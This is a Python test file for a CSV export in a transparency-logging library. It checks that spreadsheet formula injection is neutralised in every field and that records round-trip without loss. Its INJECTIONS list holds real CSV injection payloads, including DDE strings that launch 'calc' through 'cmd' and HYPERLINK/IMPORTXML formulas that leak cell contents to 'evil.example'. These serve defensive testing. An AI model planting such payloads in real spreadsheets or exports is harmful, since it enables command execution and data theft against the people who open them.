"""No cell is a formula, whatever separator the program that opens the file believes in; and nothing is lost."""

from __future__ import annotations

import csv
import io

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sealgate.transparency.exports.csv_table import COLUMNS, csv_header, csv_line, guard, unguard
from sealgate.transparency.exports.leaves import PlacedLeaf
from sealgate.transparency.record import Record, leaf_bytes

from .conftest import hostile_records, one_of_each, placed, record_of

INJECTIONS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    '"=1+1',
    '",=1+1',
    '"",=1+1,"',
    '";=1+1',
    "a;=1+1;b",
    "a\t=1+1",
    "a\x0b=1+1",
    "a\u2028=1+1",
    "a\x85=1+1",
    "'=1+1",
    "''",
    "\\",
    "\\u003d1",
    '=IMPORTXML(CONCAT("//evil.example/", A1), "//a")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
    "\x00=1+1",
)
_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _cells_as_programs_see_them(text: str) -> list[str]:
    """Every cell that some program might make of the text: RFC 4180 readers, and those that split at anything else."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    for separator in (";", "\t", "|"):
        cells += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    for line in text.splitlines():
        cells.append(line)
    return cells


def _require_harmless(text: str) -> None:
    for cell in _cells_as_programs_see_them(text):
        bare = cell.strip().strip("\ufeff")
        assert not bare.startswith(_STARTS) or bare.removeprefix("-").isdecimal(), repr(cell)


@pytest.mark.parametrize("text", INJECTIONS)
def test_the_corpus_is_disarmed_in_every_field(text: str) -> None:
    fields = {"tenant": text, "model": text, "reason": text, "detail": {"question": text}, "policy_ids": (text, text)}
    for name, value in fields.items():
        line = csv_line(placed(record_of("audit.query", **{name: value}))).decode()
        if name in ("tenant", "model", "reason"):
            _require_harmless(line)
        assert line.count("\n") == 1
        assert line.count("\r") == 1
    assert unguard(guard(text)) == text


@given(entry=hostile_records())
@settings(max_examples=150, deadline=None)
def test_the_record_comes_back_from_its_line(entry: PlacedLeaf) -> None:
    rows = list(csv.reader(io.StringIO((csv_header() + csv_line(entry)).decode(), newline="")))
    assert rows[0] == list(COLUMNS)
    assert len(rows) == 2
    cells = dict(zip(COLUMNS, rows[1], strict=True))
    fields: dict[str, object] = {}
    for one in msgspec.structs.fields(Record):
        text = cells[one.name]
        if one.type is str:
            fields[one.name] = unguard(text)
        elif one.type is bool:
            fields[one.name] = text == "true"
        elif one.type is int:
            fields[one.name] = int(text)
        elif text:
            fields[one.name] = msgspec.json.decode(unguard(text))
    assert leaf_bytes(msgspec.convert(fields, Record)) == entry.leaf
    assert int(cells["index"]) == entry.index


@given(text=st.text())
@settings(max_examples=300, deadline=None)
def test_any_text_is_disarmed_and_comes_back(text: str) -> None:
    text = text.encode("utf-8", "replace").decode()
    assert unguard(guard(text)) == text
    assert not guard(text).lstrip().startswith(_STARTS)
    assert guard(text).isprintable() or not any(c in guard(text) for c in "\r\n\t\0;")


def test_one_of_each() -> None:
    for entry in one_of_each():
        _require_harmless(csv_line(entry).decode())
